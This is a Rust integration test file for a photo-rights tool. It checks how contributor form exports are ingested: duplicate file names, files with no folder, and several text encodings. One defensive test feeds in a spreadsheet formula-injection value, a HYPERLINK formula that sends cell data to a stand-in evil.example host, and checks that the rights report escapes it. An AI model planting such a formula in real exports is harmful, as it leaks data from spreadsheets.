//! Form exports as they really arrive (issue 13, hole 7, and parts of 12): two people who
//! both sent `IMG_0001.jpg`, names without folders, Windows-1252 and UTF-16 files from
//! Excel, and contributors whose names a spreadsheet would run as formulas. The forms are
//! in `tests/fixtures/forms`; the pictures are copies of `tests/fixtures/samples` laid out in the
//! folders the forms describe, with the form inside the folder as a marketer gets it.

use std::fs;
use std::path::{Path, PathBuf};

use crate::common::*;
use chorus::campaign;
use chorus::catalog::{self, Contributor};
use chorus::ingest::{FileResult, Status};
use chorus::manifest::{AgeStatement, Manifest};
use chorus::rights::{Channel, Usage};

fn form(name: &str) -> PathBuf {
    repo().join("tests/fixtures/forms").join(name)
}

/// A submissions folder: `files` maps a path under it to a sample it is a copy of; the
/// form is copied in beside them.
fn folder(form_name: &str, files: &[(&str, &str)]) -> (tempfile::TempDir, PathBuf, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("submissions");
    for (to, sample) in files {
        let to = root.join(to);
        fs::create_dir_all(to.parent().unwrap()).unwrap();
        fs::copy(samples().join(sample), &to).unwrap();
    }
    let manifest = root.join(form_name);
    fs::copy(form(form_name), &manifest).unwrap();
    (dir, root, manifest)
}

/// The result of the file at this path under the root.
fn result_at<'a>(results: &'a [FileResult], root: &Path, relative: &str) -> &'a FileResult {
    let path = root.join(relative).display().to_string();
    results
        .iter()
        .find(|r| r.path == path)
        .unwrap_or_else(|| panic!("no result for {path} in {results:#?}"))
}

fn contributor_of(s: &Ingested, r: &FileResult) -> Option<Contributor> {
    let id = r.asset_id.or(r.duplicate_of).expect("an imported file");
    catalog::get(s.lib.conn(), id).unwrap().contributor
}

fn name_of(s: &Ingested, r: &FileResult) -> Option<String> {
    contributor_of(s, r).and_then(|c| c.name)
}

#[test]
fn bobs_img_0001_lands_with_bob_and_alices_with_alice() {
    // Bob answered the form first; his row names `bob\IMG_0001.jpg` with a backslash,
    // Alice's `./Alice/IMG_0001.jpg`. Matching by name alone gave Alice's file to Bob.
    let (_dir, root, manifest) = folder(
        "google_forms_paths.csv",
        &[
            ("alice/IMG_0001.jpg", "family_picnic.jpg"),
            ("bob/IMG_0001.jpg", "hiking_gps.jpg"),
            ("carla/beach.jpg", "upside_down.jpg"),
        ],
    );
    let s = ingest(&[&root], Some(&manifest));
    let alice = result_at(&s.results, &root, "alice/IMG_0001.jpg");
    let bob = result_at(&s.results, &root, "bob/IMG_0001.jpg");
    assert_eq!(name_of(&s, bob).as_deref(), Some("Bob Tanaka"));
    assert_eq!(
        contributor_of(&s, bob).unwrap().handle.as_deref(),
        Some("@bobtanaka")
    );
    assert_eq!(name_of(&s, alice).as_deref(), Some("Alice Moreau"));
    let carla = result_at(&s.results, &root, "carla/beach.jpg");
    assert_eq!(name_of(&s, carla).as_deref(), Some("Carla Ruiz"));
    assert!(
        s.results
            .iter()
            .all(|r| r.status != Status::Error && r.note.is_none()),
        "{:#?}",
        s.results
    );

    // Bob's consent belongs to Bob's picture only.
    let bob_asset = catalog::detail(&s.lib, bob.asset_id.unwrap()).unwrap();
    assert_eq!(bob_asset.submissions.len(), 1);
    assert_eq!(
        bob_asset.submissions[0].contributor_id,
        contributor_of(&s, bob).map(|c| c.id)
    );
}

#[test]
fn a_bare_name_that_fits_two_rows_or_two_files_is_linked_to_nobody_with_a_warning() {
    let (_dir, root, manifest) = folder(
        "bare_names_ambiguous.csv",
        &[
            ("IMG_0001.jpg", "family_picnic.jpg"),
            ("sunset.webp", "team_photo.webp"),
            ("monday/IMG_0002.jpg", "hiking_gps.jpg"),
            ("tuesday/IMG_0002.jpg", "upside_down.jpg"),
        ],
    );
    let s = ingest(&[&root], Some(&manifest));

    // Dana and Eli both typed IMG_0001.jpg: it is neither's until someone says.
    let img1 = result_at(&s.results, &root, "IMG_0001.jpg");
    assert_eq!(img1.status, Status::Ingested);
    assert_eq!(contributor_of(&s, img1), None);
    assert_eq!(
        img1.note.as_deref(),
        Some("IMG_0001.jpg: 2 form rows name this file (lines 2, 3) and it has no folder in the form; linked to nobody: give the form's path or link it by hand")
    );

    // Gus's IMG_0002.jpg turned up in two folders: neither copy is Gus's by guess.
    for day in ["monday", "tuesday"] {
        let r = result_at(&s.results, &root, &format!("{day}/IMG_0002.jpg"));
        assert_eq!(contributor_of(&s, r), None, "{day}");
        let note = r.note.as_deref().expect("a warning");
        assert!(
            note.contains("2 imported files have this name")
                && note.contains("monday/IMG_0002.jpg, tuesday/IMG_0002.jpg")
                && note.contains("(line 5)")
                && note.contains("linked to nobody"),
            "{note}"
        );
    }

    // A name one row and one file have still matches as it always did.
    let sunset = result_at(&s.results, &root, "sunset.webp");
    assert_eq!(name_of(&s, sunset).as_deref(), Some("Fay Okoro"));
    assert_eq!(sunset.note, None);

    // The rows behind the warnings did find their files: none is reported missing.
    assert!(
        s.results.iter().all(|r| r.status != Status::Error),
        "{:#?}",
        s.results
    );
    let people: Vec<String> = catalog::contributors(s.lib.conn())
        .unwrap()
        .into_iter()
        .filter_map(|(c, _)| c.name)
        .collect();
    assert_eq!(people, ["Fay Okoro"]);
}

#[test]
fn a_windows_1252_export_from_excel_keeps_accented_names() {
    let (_dir, root, manifest) = folder(
        "excel_latin1.csv",
        &[
            ("jose.jpg", "family_picnic.jpg"),
            ("zoe.jpg", "hiking_gps.jpg"),
        ],
    );
    let s = ingest(&[&root], Some(&manifest));
    let jose = result_at(&s.results, &root, "jose.jpg");
    assert_eq!(name_of(&s, jose).as_deref(), Some("José Müller"));
    let zoe = result_at(&s.results, &root, "zoe.jpg");
    assert_eq!(name_of(&s, zoe).as_deref(), Some("Zoë Ørsted-Françoise"));
    let consent = catalog::detail(&s.lib, jose.asset_id.unwrap())
        .unwrap()
        .submissions[0]
        .consent_text
        .clone();
    assert_eq!(
        consent.as_deref(),
        Some("“Ich stimme zu” – BrandCo may use my photo")
    );
}

#[test]
fn a_utf16_unicode_text_export_is_read_as_tab_separated() {
    let (_dir, root, manifest) = folder(
        "excel_unicode_text.txt",
        &[
            ("chloe.jpg", "portrait_rotated.jpg"),
            ("ai.jpg", "upside_down.jpg"),
        ],
    );
    let s = ingest(&[&root], Some(&manifest));
    let chloe = result_at(&s.results, &root, "chloe.jpg");
    assert_eq!(name_of(&s, chloe).as_deref(), Some("Chloé Martin"));
    let ai = result_at(&s.results, &root, "ai.jpg");
    let who = contributor_of(&s, ai).unwrap();
    assert_eq!(who.name.as_deref(), Some("小林 愛"));
    assert_eq!(who.email.as_deref(), Some("ai.kobayashi@example.com"));

    // The same file read directly: the age column says one adult and one minor.
    let m = Manifest::load(&form("excel_unicode_text.txt")).unwrap();
    let ages: Vec<AgeStatement> = m.rows.iter().map(|r| r.age).collect();
    assert_eq!(
        ages,
        [AgeStatement::Adult, AgeStatement::Minor { age: Some(16) }]
    );
}

#[test]
fn a_form_in_no_encoding_chorus_reads_says_what_to_save_it_as() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("form.csv");
    // UTF-32, as some database tools write it.
    let utf32: Vec<u8> = [0xFF, 0xFE, 0, 0]
        .into_iter()
        .chain(
            "File\na.jpg\n"
                .chars()
                .flat_map(|c| (c as u32).to_le_bytes()),
        )
        .collect();
    fs::write(&path, utf32).unwrap();
    let err = Manifest::load(&path).unwrap_err().to_string();
    assert!(err.contains(&path.display().to_string()), "{err}");
    assert!(err.contains("UTF-32"), "{err}");
    assert!(err.contains("CSV UTF-8"), "{err}");
}

#[test]
fn the_rights_report_csv_never_runs_a_contributors_name_as_a_formula() {
    let (_dir, root, manifest) = folder(
        "formula_names.csv",
        &[("party.gif", "party.gif"), ("scan.tiff", "scan.tiff")],
    );
    let s = ingest(&[&root], Some(&manifest));
    let ids: Vec<i64> = ["party.gif", "scan.tiff"]
        .iter()
        .map(|n| asset_named(&s.lib, n).id)
        .collect();
    let usage = Usage {
        channels: [Channel::Web].into(),
        territories: ["US".to_string()].into(),
        starts_on: campaign::parse_date("2026-07-01").unwrap(),
        ends_on: campaign::parse_date("2026-07-31").unwrap(),
    };
    let c = campaign::create(s.lib.conn(), "Formula check", &usage).unwrap();
    let out = s.dir.path().join("report");
    let (csv_path, _) = chorus::rights::write_report(
        s.lib.conn(),
        &c,
        &ids,
        &out,
        chorus::rights::Audience::Internal,
    )
    .unwrap();

    let mut reader = csv::Reader::from_path(&csv_path).unwrap();
    let headers = reader.headers().unwrap().clone();
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let row_for = |id: i64| {
        rows.iter()
            .find(|r| r[col("asset_id")] == id.to_string())
            .unwrap_or_else(|| panic!("no row for asset {id} in {rows:?}"))
    };
    let evil = row_for(ids[0]);
    assert_eq!(
        &evil[col("contributor")],
        "'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click me\")"
    );
    assert_eq!(&evil[col("handle")], "'@evil");
    let minus = row_for(ids[1]);
    assert_eq!(&minus[col("contributor")], "'-2+3");
    // Every handle starts with @, so every handle is quoted; plain cells are untouched.
    assert_eq!(&minus[col("handle")], "'@minus.two");
    assert_eq!(&minus[col("email")], "minus@example.com");
    assert_eq!(&minus[col("asset_id")], ids[1].to_string());
}
